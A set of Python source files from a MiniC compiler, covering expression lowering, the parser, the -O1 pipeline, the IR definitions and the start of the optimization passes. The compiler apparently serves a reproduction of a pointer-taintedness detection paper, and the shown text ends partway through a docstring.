        if isinstance(value, Temp):
            return value
        t = self.ir.new_temp(hint)
        self._emit(Copy(t, value))
        return t

    def _load_from(self, addr: Temp, elem: CType) -> Tuple[Value, CType]:
        if isinstance(elem, ArrayType):
            # Arrays decay: the address itself is the value.
            return addr, PointerType(elem.base)
        size = 1 if elem.size == 1 else 4
        t = self.ir.new_temp("load")
        self._emit(Load(t, addr, 0, size))
        return t, (elem if elem.size == 4 else INT)

    # ------------------------------------------------------------------
    # expressions
    # ------------------------------------------------------------------

    def _lower_expr(self, expr: Expr) -> Tuple[Value, CType]:
        if isinstance(expr, IntLiteral):
            return expr.value, INT
        if isinstance(expr, SizeOf):
            assert expr.ctype is not None
            return expr.ctype.size, INT
        if isinstance(expr, StringLiteral):
            label = self.strings.label(expr.value)
            t = self.ir.new_temp("str")
            self._emit(LoadAddr(t, label))
            return t, PointerType(CHAR)
        if isinstance(expr, VarRef):
            binding = self._lookup(expr.name, expr.line)
            if binding.kind == "sreg":
                assert binding.temp is not None
                return binding.temp, binding.ctype.decayed()
            addr, elem = self._lower_addr(expr)
            return self._load_from(addr, elem)
        if isinstance(expr, Unary):
            return self._lower_unary(expr)
        if isinstance(expr, Binary):
            return self._lower_binary(expr)
        if isinstance(expr, Assign):
            return self._lower_assign(expr)
        if isinstance(expr, Conditional):
            return self._lower_conditional(expr)
        if isinstance(expr, Call):
            return self._lower_call(expr)
        if isinstance(expr, Index):
            addr, elem = self._lower_addr(expr)
            return self._load_from(addr, elem)
        raise CompileError(
            f"unhandled expression {type(expr).__name__}", expr.line
        )

    def _lower_unary(self, expr: Unary) -> Tuple[Value, CType]:
        assert expr.operand is not None
        op = expr.op
        if op in ("++", "--"):
            return self._lower_incdec(expr)
        if op == "&":
            addr, elem = self._lower_addr(expr.operand)
            return addr, PointerType(elem)
        if op == "*":
            addr, elem = self._lower_addr(expr)
            return self._load_from(addr, elem)
        value, _ = self._lower_expr(expr.operand)
        t = self.ir.new_temp("un")
        if op == "-":
            self._emit(BinOp(t, "-", 0, value))
            return t, INT
        if op == "~":
            self._emit(BinOp(t, "nor", value, 0))
            return t, INT
        if op == "!":
            self._emit(BinOp(t, "sltu", value, 1))
            return t, INT
        raise CompileError(f"unhandled unary {op!r}", expr.line)

    def _lower_incdec(self, expr: Unary) -> Tuple[Value, CType]:
        assert expr.operand is not None
        target = expr.operand
        ctype = self._expr_type(target)
        step = self._pointer_scale(ctype)
        delta = step if expr.op == "++" else -step
        if isinstance(target, VarRef):
            binding = self._lookup(target.name, target.line)
            if binding.kind == "sreg":
                assert binding.temp is not None
                home = binding.temp
                if expr.postfix:
                    old = self.ir.new_temp("post")
                    self._emit(Copy(old, home))
                    self._emit(BinOp(home, "+", home, delta))
                    return old, ctype
                self._emit(BinOp(home, "+", home, delta))
                return home, ctype
        addr, elem = self._lower_addr(target)
        size = 1 if elem.size == 1 else 4
        old = self.ir.new_temp("old")
        self._emit(Load(old, addr, 0, size))
        new = self.ir.new_temp("new")
        self._emit(BinOp(new, "+", old, delta))
        self._emit(Store(new, addr, 0, size))
        return (old if expr.postfix else new), ctype

    def _lower_binary(self, expr: Binary) -> Tuple[Value, CType]:
        assert expr.left is not None and expr.right is not None
        op = expr.op
        if op == ",":
            self._lower_expr(expr.left)
            return self._lower_expr(expr.right)
        if op in ("&&", "||"):
            # Value form: materialize 0/1 through the branch skeleton.
            true_label = self._new_label("btrue")
            false_label = self._new_label("bfalse")
            end_label = self._new_label("bend")
            result = self.ir.new_temp("bool")
            self._lower_cond(expr, true_label, false_label)
            self._block = self.ir.add_block(false_label)
            self._emit(Copy(result, 0))
            self._terminate(Jump(end_label))
            self._block = self.ir.add_block(true_label)
            self._emit(Copy(result, 1))
            self._terminate(Jump(end_label))
            self._block = self.ir.add_block(end_label)
            return result, INT
        if op in _COMPARISON_OPS:
            left, lt = self._lower_expr(expr.left)
            right, rt = self._lower_expr(expr.right)
            unsigned = lt.decayed().is_pointer() or rt.decayed().is_pointer()
            slt = "sltu" if unsigned else "slt"
            t = self.ir.new_temp("cmp")
            if op == "<":
                self._emit(BinOp(t, slt, left, right))
            elif op == ">":
                self._emit(BinOp(t, slt, right, left))
            elif op == "<=":
                inner = self.ir.new_temp("cmp")
                self._emit(BinOp(inner, slt, right, left))
                self._emit(BinOp(t, "^", inner, 1))
            elif op == ">=":
                inner = self.ir.new_temp("cmp")
                self._emit(BinOp(inner, slt, left, right))
                self._emit(BinOp(t, "^", inner, 1))
            elif op == "==":
                diff = self.ir.new_temp("diff")
                self._emit(BinOp(diff, "^", left, right))
                self._emit(BinOp(t, "sltu", diff, 1))
            else:  # "!="
                diff = self.ir.new_temp("diff")
                self._emit(BinOp(diff, "^", left, right))
                self._emit(BinOp(t, "sltu", 0, diff))
            return t, INT

        left, lt = self._lower_expr(expr.left)
        right, rt = self._lower_expr(expr.right)
        t = self.ir.new_temp("bin")
        if op == "+":
            lscale = self._pointer_scale(lt)
            rscale = self._pointer_scale(rt)
            if lscale > 1 and rscale == 1:
                right = self._scale_value(right, lscale)
            elif rscale > 1 and lscale == 1:
                left = self._scale_value(left, rscale)
            self._emit(BinOp(t, "+", left, right))
            return t, (lt if lscale > 1 else (rt if rscale > 1 else INT))
        if op == "-":
            lscale = self._pointer_scale(lt)
            rscale = self._pointer_scale(rt)
            if lscale > 1 and rscale > 1:
                diff = self.ir.new_temp("pdiff")
                self._emit(BinOp(diff, "-", left, right))
                shift = {4: 2, 2: 1}.get(lscale)
                if shift:
                    self._emit(BinOp(t, ">>", diff, shift))
                    return t, INT
                return diff, INT
            if lscale > 1:
                right = self._scale_value(right, lscale)
            self._emit(BinOp(t, "-", left, right))
            return t, (lt if lscale > 1 else INT)
        if op in ("*", "/", "%", "&", "|", "^", "<<", ">>"):
            self._emit(BinOp(t, op, left, right))
            return t, INT
        raise CompileError(f"unhandled binary {op!r}", expr.line)

    def _apply_compound(
        self, op: str, current: Value, value: Value, ctype: CType
    ) -> Value:
        """``current (op) value`` with pointer scaling, as a new temp."""
        scale = self._pointer_scale(ctype)
        if op in ("+", "-") and scale > 1:
            value = self._scale_value(value, scale)
        t = self.ir.new_temp("compound")
        self._emit(BinOp(t, op, current, value))
        return t

    def _lower_assign(self, expr: Assign) -> Tuple[Value, CType]:
        assert expr.target is not None and expr.value is not None
        target = expr.target
        if isinstance(target, VarRef):
            binding = self._lookup(target.name, target.line)
            if binding.kind == "sreg":
                assert binding.temp is not None
                value, _ = self._lower_expr(expr.value)
                if expr.op != "=":
                    value = self._apply_compound(
                        _COMPOUND_BASE[expr.op], binding.temp, value,
                        binding.ctype,
                    )
                self._store_binding(binding, value)
                # The expression value is the (possibly truncated) register.
                return binding.temp, binding.ctype.decayed()
        addr, elem = self._lower_addr(target)
        value, _ = self._lower_expr(expr.value)
        size = 1 if elem.size == 1 else 4
        if expr.op != "=":
            current = self.ir.new_temp("cur")
            self._emit(Load(current, addr, 0, size))
            value = self._apply_compound(
                _COMPOUND_BASE[expr.op], current, value, elem
            )
        self._emit(Store(value, addr, 0, size))
        # Legacy semantics: a memory char assignment's *value* is the
        # untruncated right-hand side.
        if isinstance(elem, ArrayType):
            return value, INT
        return value, elem.decayed()

    def _lower_conditional(self, expr: Conditional) -> Tuple[Value, CType]:
        assert expr.condition is not None
        assert expr.then_value is not None and expr.else_value is not None
        then_label = self._new_label("cthen")
        else_label = self._new_label("celse")
        end_label = self._new_label("cend")
        result = self.ir.new_temp("cond")
        self._lower_cond(expr.condition, then_label, else_label)
        self._block = self.ir.add_block(then_label)
        then_value, ctype = self._lower_expr(expr.then_value)
        self._emit(Copy(result, then_value))
        self._terminate(Jump(end_label))
        self._block = self.ir.add_block(else_label)
        else_value, _ = self._lower_expr(expr.else_value)
        self._emit(Copy(result, else_value))
        self._terminate(Jump(end_label))
        self._block = self.ir.add_block(end_label)
        return result, ctype

    def _lower_call(self, expr: Call) -> Tuple[Value, CType]:
        # Arguments evaluate right-to-left (the legacy push order); each
        # value is captured at its evaluation point so later side effects
        # cannot retroactively change an earlier argument.
        values: List[Value] = [0] * len(expr.args)
        for i in range(len(expr.args) - 1, -1, -1):
            value, _ = self._lower_expr(expr.args[i])
            if isinstance(value, Temp) and value.pin is not None:
                captured = self.ir.new_temp("arg")
                self._emit(Copy(captured, value))
                value = captured
            values[i] = value
        dst = self.ir.new_temp("ret")
        self._emit(CallOp(dst, expr.name, values))
        func = self.functions.get(expr.name)
        return dst, (func.return_type if func is not None else INT)


def lower_function(
    func: FuncDef,
    functions: Dict[str, FuncDef],
    globals_: Dict[str, Slot],
    strings: StringPool,
    prefix: str = "",
) -> IRFunction:
    """Lower one function definition into an IR CFG."""
    return FunctionLowerer(func, functions, globals_, strings, prefix).lower()
