"""Recursive-descent parser for MiniC.

Grammar summary (C subset): ``int``/``char``/``void`` with pointers and
one-dimensional arrays, functions (with ``...`` varargs), the usual
statements (``if``/``while``/``for``/``return``/``break``/``continue``),
and C expression syntax down to assignment operators, ``?:``,
short-circuit ``&&``/``||`` and prefix/postfix ``++``/``--``.

No structs, typedefs, floats, or casts -- the evaluation programs use
word-offset pointer arithmetic instead (see DESIGN.md, Known deviations).
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from .ast_nodes import (
    ArrayType,
    Assign,
    Binary,
    Block,
    Break,
    CHAR,
    CType,
    Call,
    Conditional,
    Continue,
    Expr,
    ExprStmt,
    For,
    FuncDef,
    GlobalDecl,
    If,
    INT,
    Index,
    IntLiteral,
    LocalDecl,
    Param,
    PointerType,
    Return,
    SizeOf,
    Stmt,
    StringLiteral,
    TranslationUnit,
    Unary,
    VOID,
    VarRef,
    While,
)
from .errors import CompileError
from .lexer import Token, tokenize

_TYPE_KEYWORDS = {"int": INT, "char": CHAR, "void": VOID}

_ASSIGN_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>="}


class Parser:
    """Parses one MiniC translation unit."""

    def __init__(self, source: str) -> None:
        self._tokens = tokenize(source)
        self._pos = 0

    # ------------------------------------------------------------------
    # token plumbing
    # ------------------------------------------------------------------

    @property
    def _current(self) -> Token:
        return self._tokens[self._pos]

    def _peek(self, offset: int = 1) -> Token:
        index = min(self._pos + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> Token:
        token = self._current
        if token.kind != "eof":
            self._pos += 1
        return token

    def _expect_punct(self, spelling: str) -> Token:
        if not self._current.is_punct(spelling):
            raise CompileError(
                f"expected {spelling!r}, found {self._current.text!r}",
                self._current.line,
                self._current.column,
            )
        return self._advance()

    def _expect_ident(self) -> Token:
        if self._current.kind != "ident":
            raise CompileError(
                f"expected identifier, found {self._current.text!r}",
                self._current.line,
                self._current.column,
            )
        return self._advance()

    def _accept_punct(self, spelling: str) -> bool:
        if self._current.is_punct(spelling):
            self._advance()
            return True
        return False

    # ------------------------------------------------------------------
    # types
    # ------------------------------------------------------------------

    def _at_type(self) -> bool:
        return self._current.kind == "ident" and self._current.text in _TYPE_KEYWORDS

    def _parse_type(self) -> CType:
        token = self._expect_ident()
        base = _TYPE_KEYWORDS.get(token.text)
        if base is None:
            raise CompileError(f"unknown type {token.text!r}", token.line)
        ctype: CType = base
        while self._accept_punct("*"):
            ctype = PointerType(ctype)
        return ctype

    # ------------------------------------------------------------------
    # top level
    # ------------------------------------------------------------------

    def parse(self) -> TranslationUnit:
        unit = TranslationUnit()
        while self._current.kind != "eof":
            if not self._at_type():
                raise CompileError(
                    f"expected declaration, found {self._current.text!r}",
                    self._current.line,
                )
            start = self._pos
            ctype = self._parse_type()
            name = self._expect_ident()
            if self._current.is_punct("("):
                self._pos = start
                function = self._parse_function()
                if function is not None:
                    unit.functions.append(function)
            else:
                self._pos = start
                unit.globals.extend(self._parse_global())
        return unit

    def _parse_function(self) -> Optional[FuncDef]:
        return_type = self._parse_type()
        name = self._expect_ident()
        self._expect_punct("(")
        params: List[Param] = []
        varargs = False
        if not self._current.is_punct(")"):
            if self._current.is_ident("void") and self._peek().is_punct(")"):
                self._advance()
            else:
                while True:
                    if self._current.is_punct("..."):
                        self._advance()
                        varargs = True
                        break
                    ptype = self._parse_type()
                    pname = self._expect_ident()
                    if self._accept_punct("["):
                        # Array parameters decay to pointers.
                        if self._current.kind == "number":
                            self._advance()
                        self._expect_punct("]")
                        ptype = PointerType(ptype)
                    params.append(Param(pname.text, ptype))
                    if not self._accept_punct(","):
                        break
        self._expect_punct(")")
        if self._accept_punct(";"):
            return None  # prototype: declaration only
        body = self._parse_block()
        return FuncDef(
            name=name.text,
            return_type=return_type,
            params=params,
            varargs=varargs,
            body=body,
            line=name.line,
        )

    def _parse_global(self) -> List[GlobalDecl]:
        base = self._parse_type()
        decls: List[GlobalDecl] = []
        while True:
            ctype = base
            while self._accept_punct("*"):
                ctype = PointerType(ctype)
            name = self._expect_ident()
            if self._accept_punct("["):
                count_token = self._advance()
                if count_token.kind != "number":
                    raise CompileError(
                        "array size must be a constant", count_token.line
                    )
                self._expect_punct("]")
                ctype = ArrayType(ctype, count_token.value)
            init = None
            if self._accept_punct("="):
                init = self._parse_global_init(name.line)
            decls.append(GlobalDecl(name.text, ctype, init, line=name.line))
            if self._accept_punct(";"):
                return decls
            self._expect_punct(",")

    def _parse_global_init(self, line: int):
        token = self._current
        if token.kind == "string":
            self._advance()
            return token.text.encode("latin-1") + b"\0"
        if token.is_punct("{"):
            self._advance()
            values: List[int] = []
            while not self._current.is_punct("}"):
                values.append(self._parse_const_int())
                if not self._accept_punct(","):
                    break
            self._expect_punct("}")
            return values
        return self._parse_const_int()

    def _parse_const_int(self) -> int:
        negative = self._accept_punct("-")
        token = self._advance()
        if token.kind != "number":
            raise CompileError(
                "constant initializer expected", token.line, token.column
            )
        return -token.value if negative else token.value

    # ------------------------------------------------------------------
    # statements
    # ------------------------------------------------------------------

    def _parse_block(self) -> Block:
        open_token = self._expect_punct("{")
        statements: List[Stmt] = []
        while not self._current.is_punct("}"):
            if self._current.kind == "eof":
                raise CompileError("unterminated block", open_token.line)
            statements.append(self._parse_statement())
        self._expect_punct("}")
        return Block(line=open_token.line, statements=statements)

    def _parse_statement(self) -> Stmt:
        token = self._current
        if token.is_punct("{"):
            return self._parse_block()
        if token.is_punct(";"):
            self._advance()
            return ExprStmt(line=token.line, expr=None)
        if token.is_ident("if"):
            self._advance()
            self._expect_punct("(")
            condition = self._parse_expression()
            self._expect_punct(")")
            then_branch = self._parse_statement()
            else_branch = None
            if self._current.is_ident("else"):
                self._advance()
                else_branch = self._parse_statement()
            return If(
                line=token.line,
                condition=condition,
                then_branch=then_branch,
                else_branch=else_branch,
            )
        if token.is_ident("while"):
            self._advance()
            self._expect_punct("(")
            condition = self._parse_expression()
            self._expect_punct(")")
            body = self._parse_statement()
            return While(line=token.line, condition=condition, body=body)
        if token.is_ident("for"):
            self._advance()
            self._expect_punct("(")
            init: Optional[Stmt] = None
            if not self._current.is_punct(";"):
                if self._at_type():
                    init = self._parse_local_decl()
                else:
                    init = ExprStmt(
                        line=token.line, expr=self._parse_expression()
                    )
            self._expect_punct(";")
            condition = None
            if not self._current.is_punct(";"):
                condition = self._parse_expression()
            self._expect_punct(";")
            step = None
            if not self._current.is_punct(")"):
                step = self._parse_expression()
            self._expect_punct(")")
            body = self._parse_statement()
            return For(
                line=token.line,
                init=init,
                condition=condition,
                step=step,
                body=body,
            )
        if token.is_ident("return"):
            self._advance()
            value = None
            if not self._current.is_punct(";"):
                value = self._parse_expression()
            self._expect_punct(";")
            return Return(line=token.line, value=value)
        if token.is_ident("break"):
            self._advance()
            self._expect_punct(";")
            return Break(line=token.line)
        if token.is_ident("continue"):
            self._advance()
            self._expect_punct(";")
            return Continue(line=token.line)
        if self._at_type():
            decl = self._parse_local_decl()
            self._expect_punct(";")
            return decl
        expr = self._parse_expression()
        self._expect_punct(";")
        return ExprStmt(line=token.line, expr=expr)

    def _parse_local_decl(self) -> Stmt:
        """One local declaration; multiple declarators become a Block."""
        line = self._current.line
        base = self._parse_type()
        decls: List[Stmt] = []
        while True:
            ctype = base
            while self._accept_punct("*"):
                ctype = PointerType(ctype)
            name = self._expect_ident()
            if self._accept_punct("["):
                count_token = self._advance()
                if count_token.kind != "number":
                    raise CompileError(
                        "array size must be a constant", count_token.line
                    )
                self._expect_punct("]")
                ctype = ArrayType(ctype, count_token.value)
            init = None
            if self._accept_punct("="):
                init = self._parse_assignment()
            decls.append(
                LocalDecl(line=name.line, name=name.text, ctype=ctype, init=init)
            )
            if not self._accept_punct(","):
                break
        if len(decls) == 1:
            return decls[0]
        return Block(line=line, statements=decls)

    # ------------------------------------------------------------------
    # expressions (precedence climbing via nested methods)
    # ------------------------------------------------------------------

    def _parse_expression(self) -> Expr:
        expr = self._parse_assignment()
        while self._accept_punct(","):
            right = self._parse_assignment()
            expr = Binary(line=right.line, op=",", left=expr, right=right)
        return expr

    def _parse_assignment(self) -> Expr:
        target = self._parse_conditional()
        token = self._current
        if token.kind == "punct" and token.text in _ASSIGN_OPS:
            self._advance()
            value = self._parse_assignment()
            return Assign(line=token.line, op=token.text, target=target, value=value)
        return target

    def _parse_conditional(self) -> Expr:
        condition = self._parse_binary(0)
        if self._accept_punct("?"):
            then_value = self._parse_expression()
            self._expect_punct(":")
            else_value = self._parse_conditional()
            return Conditional(
                line=condition.line,
                condition=condition,
                then_value=then_value,
                else_value=else_value,
            )
        return condition

    #: Binary operator precedence levels, loosest first.
    _LEVELS: List[Tuple[str, ...]] = [
        ("||",),
        ("&&",),
        ("|",),
        ("^",),
        ("&",),
        ("==", "!="),
        ("<", ">", "<=", ">="),
        ("<<", ">>"),
        ("+", "-"),
        ("*", "/", "%"),
    ]

    def _parse_binary(self, level: int) -> Expr:
        if level >= len(self._LEVELS):
            return self._parse_unary()
        ops = self._LEVELS[level]
        left = self._parse_binary(level + 1)
        while self._current.kind == "punct" and self._current.text in ops:
            token = self._advance()
            right = self._parse_binary(level + 1)
            left = Binary(line=token.line, op=token.text, left=left, right=right)
        return left

    def _parse_unary(self) -> Expr:
        token = self._current
        if token.kind == "punct" and token.text in ("-", "!", "~", "*", "&"):
            self._advance()
            operand = self._parse_unary()
            return Unary(line=token.line, op=token.text, operand=operand)
        if token.kind == "punct" and token.text in ("++", "--"):
            self._advance()
            operand = self._parse_unary()
            return Unary(line=token.line, op=token.text, operand=operand)
        if token.is_ident("sizeof"):
            self._advance()
            self._expect_punct("(")
            ctype = self._parse_type()
            self._expect_punct(")")
            return SizeOf(line=token.line, ctype=ctype)
        return self._parse_postfix()

    def _parse_postfix(self) -> Expr:
        expr = self._parse_primary()
        while True:
            token = self._current
            if token.is_punct("("):
                if not isinstance(expr, VarRef):
                    raise CompileError(
                        "only direct calls by name are supported", token.line
                    )
                self._advance()
                args: List[Expr] = []
                while not self._current.is_punct(")"):
                    args.append(self._parse_assignment())
                    if not self._accept_punct(","):
                        break
                self._expect_punct(")")
                expr = Call(line=token.line, name=expr.name, args=args)
            elif token.is_punct("["):
                self._advance()
                index = self._parse_expression()
                self._expect_punct("]")
                expr = Index(line=token.line, base=expr, index=index)
            elif token.kind == "punct" and token.text in ("++", "--"):
                self._advance()
                expr = Unary(
                    line=token.line, op=token.text, operand=expr, postfix=True
                )
            else:
                return expr

    def _parse_primary(self) -> Expr:
        token = self._current
        if token.kind == "number":
            self._advance()
            return IntLiteral(line=token.line, value=token.value)
        if token.kind == "string":
            self._advance()
            data = token.text.encode("latin-1")
            # Adjacent string literals concatenate, as in C.
            while self._current.kind == "string":
                data += self._current.text.encode("latin-1")
                self._advance()
            return StringLiteral(line=token.line, value=data + b"\0")
        if token.kind == "ident":
            self._advance()
            return VarRef(line=token.line, name=token.text)
        if token.is_punct("("):
            self._advance()
            expr = self._parse_expression()
            self._expect_punct(")")
            return expr
        raise CompileError(
            f"unexpected token {token.text!r}", token.line, token.column
        )


def parse(source: str) -> TranslationUnit:
    """Parse MiniC source into a :class:`TranslationUnit`."""
    return Parser(source).parse()
