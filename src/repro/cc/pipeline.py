"""The -O1 MiniC backend: AST -> IR -> passes -> regalloc -> emit.

Drives the full pipeline for one translation unit and produces assembly
text with the same data-section layout, label prefixing and PAC dot-label
contract as the legacy ``-O0`` generator (:mod:`repro.cc.codegen`), which
stays available as the differential oracle.
"""

from __future__ import annotations

from typing import Dict, List

from .ast_nodes import TranslationUnit
from .emit import FunctionEmitter
from .frame import Slot, StringPool, global_data_lines, global_label
from .lower import lower_function
from .passes import run_passes
from .regalloc import allocate


class PipelineGenerator:
    """Generates optimized assembly for a MiniC translation unit."""

    def __init__(self, unit: TranslationUnit, prefix: str = "") -> None:
        self.unit = unit
        self.prefix = prefix
        self._text: List[str] = []
        self._data: List[str] = []
        self._strings = StringPool(prefix)
        self._label_counter = 0

    def _new_label(self, hint: str) -> str:
        self._label_counter += 1
        return f".L{self.prefix}{hint}{self._label_counter}"

    def _emit(self, line: str) -> None:
        self._text.append("    " + line)

    def _emit_label(self, label: str) -> None:
        self._text.append(f"{label}:")

    def generate(self) -> str:
        globals_: Dict[str, Slot] = {}
        for decl in self.unit.globals:
            label = global_label(decl.name)
            globals_[decl.name] = Slot(
                kind="global", ctype=decl.ctype, label=label
            )
            self._data.extend(global_data_lines(decl, label))

        functions = {f.name: f for f in self.unit.functions}
        for func in self.unit.functions:
            ir = lower_function(
                func, functions, globals_, self._strings, self.prefix
            )
            run_passes(ir)
            locations = allocate(ir)
            FunctionEmitter(
                ir,
                locations,
                self._new_label,
                self._emit_label,
                self._emit,
            ).emit_function()

        data_lines = self._data + self._strings.data_lines
        lines = [".text"]
        lines.extend(self._text)
        if data_lines:
            lines.append(".data")
            lines.extend(data_lines)
        return "\n".join(lines) + "\n"


def generate_optimized(unit: TranslationUnit, prefix: str = "") -> str:
    """Generate -O1 assembly for a parsed translation unit."""
    return PipelineGenerator(unit, prefix).generate()
