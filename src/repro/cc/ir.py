"""Typed three-address IR with explicit basic blocks for the MiniC pipeline.

The ``-O1`` backend lowers the parsed AST into this IR
(:mod:`repro.cc.lower`), runs CFG-local optimization passes over it
(:mod:`repro.cc.passes`), assigns physical registers by linear scan
(:mod:`repro.cc.regalloc`) and only then emits assembly text
(:mod:`repro.cc.emit`).  The legacy single-pass generator
(:mod:`repro.cc.codegen`) stays byte-stable as the ``-O0`` oracle.

Design constraints that are *semantic*, not stylistic:

* Values are :class:`Temp` or plain Python ``int`` constants.  A temp may
  be **pinned** to a physical register: promoted scalars live in their
  callee-saved ``$s`` home register for their whole lifetime (the paper's
  compare-untaint rule untaints *that* register), and the frame pointer
  is a pinned ``$fp`` temp.  Pinned temps are never renamed, never
  coalesced and never spilled.
* Instruction side effects the optimizer must respect:

  - ``Load`` can raise a tainted-dereference alert -> never dead-code
    eliminated;
  - ``BinOp`` with a compare op (``slt``/``sltu``) untaints its register
    operands under the paper's Table-1 rule -> never eliminated either;
  - ``Store``/``Call`` are obviously effectful;
  - every other op (``Copy``, arithmetic ``BinOp``, ``LoadAddr``) is pure.
* Branch untaint semantics: ``beq``/``bne`` untaint both register
  operands, so conditional lowering keeps the same branch shapes the
  legacy backend emits.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union

from .ast_nodes import FuncDef
from .frame import FrameLayout

# Abstract BinOp operators and the mnemonic families they map to.
#   "+"  addu / addiu      "-"   subu           "*" mult+mflo
#   "/"  div+mflo          "%"   div+mfhi
#   "&"  and / andi        "|"   or / ori       "^" xor / xori
#   "<<" sllv / sll        ">>"  srav / sra (arithmetic, C semantics)
#   "slt" slt / slti       "sltu" sltu / sltiu  "nor" nor
BINOPS = frozenset(
    {"+", "-", "*", "/", "%", "&", "|", "^", "<<", ">>", "slt", "sltu", "nor"}
)

#: Compare-class ops: executing them untaints register operands (Table 1),
#: so they carry a side effect and must survive dead-code elimination.
COMPARE_OPS = frozenset({"slt", "sltu"})

#: Ops whose taint rule collapses byte taint to a whole-word class in the
#: simulator (``mult``/``div``).  Strength-reducing them into shifts would
#: change taint classes, so passes must not rewrite across this boundary.
MULDIV_OPS = frozenset({"*", "/", "%"})


class Temp:
    """An IR temporary (virtual register)."""

    __slots__ = ("id", "hint", "pin")

    def __init__(self, id: int, hint: str = "", pin: Optional[str] = None):
        self.id = id
        self.hint = hint
        #: Physical register this temp is pinned to ("$s0".."$s7", "$fp"),
        #: or None for an allocatable temp.
        self.pin = pin

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        tag = self.pin or f"%{self.id}"
        return f"{tag}({self.hint})" if self.hint else tag


#: An IR operand: a temp or an immediate integer constant.
Value = Union[Temp, int]


@dataclass
class Copy:
    dst: Temp
    src: Value


@dataclass
class BinOp:
    dst: Temp
    op: str
    a: Value
    b: Value


@dataclass
class Load:
    """``dst = mem[base + offset]`` (size 1 => lbu, 4 => lw).

    Loads are effectful under pointer-taintedness detection (a tainted
    address raises the alert) and are never removed by passes.
    """

    dst: Temp
    base: Temp
    offset: int
    size: int


@dataclass
class Store:
    """``mem[base + offset] = src`` (size 1 => sb, 4 => sw)."""

    src: Value
    base: Temp
    offset: int
    size: int


@dataclass
class LoadAddr:
    """``dst = &label`` (la)."""

    dst: Temp
    label: str


@dataclass
class CallOp:
    """``dst = name(args...)``; ``dst`` may be None when unused."""

    dst: Optional[Temp]
    name: str
    args: List[Value]


Instr = Union[Copy, BinOp, Load, Store, LoadAddr, CallOp]


@dataclass
class Jump:
    target: str


@dataclass
class Branch:
    """Conditional branch: ``op`` is "beq" or "bne" (both untaint)."""

    op: str
    a: Value
    b: Value
    if_true: str
    if_false: str


@dataclass
class Ret:
    value: Optional[Value]


Terminator = Union[Jump, Branch, Ret]


@dataclass
class BasicBlock:
    label: str
    instrs: List[Instr] = field(default_factory=list)
    terminator: Optional[Terminator] = None

    def successors(self) -> Tuple[str, ...]:
        t = self.terminator
        if isinstance(t, Jump):
            return (t.target,)
        if isinstance(t, Branch):
            if t.if_true == t.if_false:
                return (t.if_true,)
            return (t.if_true, t.if_false)
        return ()


class IRFunction:
    """One lowered function: CFG + frame layout + temp pool."""

    def __init__(self, func: FuncDef, layout: FrameLayout) -> None:
        self.func = func
        self.name = func.name
        self.layout = layout
        self.blocks: List[BasicBlock] = []
        self.blocks_by_label: Dict[str, BasicBlock] = {}
        self._next_temp = 0
        #: Pinned frame-pointer temp shared by all slot accesses.
        self.fp = Temp(-1, "fp", pin="$fp")
        #: Spill slot assignment filled in by regalloc: temp id -> $fp offset.
        self.spill_offsets: Dict[int, int] = {}
        self.spill_size = 0

    def new_temp(self, hint: str = "", pin: Optional[str] = None) -> Temp:
        t = Temp(self._next_temp, hint, pin)
        self._next_temp += 1
        return t

    def add_block(self, label: str) -> BasicBlock:
        block = BasicBlock(label)
        self.blocks.append(block)
        self.blocks_by_label[label] = block
        return block

    def remove_blocks(self, labels: set) -> None:
        self.blocks = [b for b in self.blocks if b.label not in labels]
        for label in labels:
            self.blocks_by_label.pop(label, None)


def instr_uses(instr: Instr) -> List[Value]:
    """Operand values read by an instruction."""
    if isinstance(instr, Copy):
        return [instr.src]
    if isinstance(instr, BinOp):
        return [instr.a, instr.b]
    if isinstance(instr, Load):
        return [instr.base]
    if isinstance(instr, Store):
        return [instr.src, instr.base]
    if isinstance(instr, CallOp):
        return list(instr.args)
    return []  # LoadAddr


def instr_def(instr: Instr) -> Optional[Temp]:
    """Temp written by an instruction, if any."""
    if isinstance(instr, (Copy, BinOp, Load, LoadAddr)):
        return instr.dst
    if isinstance(instr, CallOp):
        return instr.dst
    return None


def term_uses(term: Terminator) -> List[Value]:
    if isinstance(term, Branch):
        return [term.a, term.b]
    if isinstance(term, Ret) and term.value is not None:
        return [term.value]
    return []


def is_pure(instr: Instr) -> bool:
    """True when removing the instruction cannot change observable state.

    ``Load`` can alert on a tainted address; compare BinOps untaint their
    operands; stores and calls mutate state.  Everything else is pure.
    """
    if isinstance(instr, (Copy, LoadAddr)):
        return True
    if isinstance(instr, BinOp):
        return instr.op not in COMPARE_OPS
    return False
