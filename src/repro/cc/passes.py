"""CFG-local optimization passes over the MiniC IR.

Every pass must be **verdict-preserving** under pointer-taintedness
detection, which is stricter than value-preserving:

* loads may raise tainted-dereference alerts -> never removed or reordered
  past stores/calls (passes here never move loads at all);
* compare BinOps (``slt``/``sltu``) untaint their register operands ->
  never dead-code eliminated even when the result is unused;
* ``mult``/``div`` collapse byte-granular taint to a whole-word class,
  so ``x*1``/``x/1`` are *not* rewritten to copies and multiplications
  are never strength-reduced into shifts (shift taint spreads one byte,
  a different Table-1 rule);
* ``x & 0`` / ``x * 0`` are *not* folded to the constant 0: the legacy
  instruction produces a value whose taint depends on the policy's
  and-rule, while ``li 0`` is always clean;
* identity folds are limited to ops whose taint transfer is exactly that
  of a register move (``addu dst,src,$0``): ``+0``, ``-0``, ``|0``,
  ``^0``, ``<<0``, ``>>0``;
* copies *into* pinned home registers are variable assignments and uses
  *of* pinned temps must stay on the home register (the compare-untaint
  rule validates the variable itself), so copy propagation never records
  a mapping whose key is pinned — substituting a pinned temp as the
  *source* into more uses is fine and desirable.

All passes are CFG-local (no cross-block value motion); cross-block
effects are limited to branch folding and unreachable-block removal.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set

from .ir import (
    BasicBlock,
    BinOp,
    Branch,
    CallOp,
    Copy,
    IRFunction,
    Instr,
    Jump,
    Load,
    LoadAddr,
    Ret,
    Store,
    Temp,
    Value,
    instr_def,
    instr_uses,
    is_pure,
    term_uses,
)

_MASK32 = 0xFFFFFFFF


def _signed(value: int) -> int:
    value &= _MASK32
    return value - 0x100000000 if value >= 0x80000000 else value


def _eval_binop(op: str, a: int, b: int) -> Optional[int]:
    """Constant-fold ``a op b`` with the simulator's 32-bit semantics.

    Returns None when folding is unsafe (division by zero keeps the
